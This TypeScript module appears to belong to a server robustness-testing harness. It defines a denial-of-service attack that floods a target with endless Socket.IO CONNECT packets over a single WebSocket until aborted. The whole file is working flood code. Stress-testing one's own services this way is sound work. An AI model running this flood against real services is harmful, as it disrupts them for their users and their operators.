import { setImmediate } from 'node:timers/promises';
import type { Attack } from '../attack.ts';

export const attack: Attack = {
  name: 'CONNECT packets without end over one WebSocket',
  run: async (target, signal) => {
    const { socket, raw } = await target.webSocket();
    while (!signal.aborted && socket.readyState === socket.OPEN) {
      for (let i = 0; i < 500 && raw.writableLength < 1_000_000; i++) socket.send('40/chat,{"token":"x"}');
      await setImmediate();
    }
    raw.destroy();
  },
};
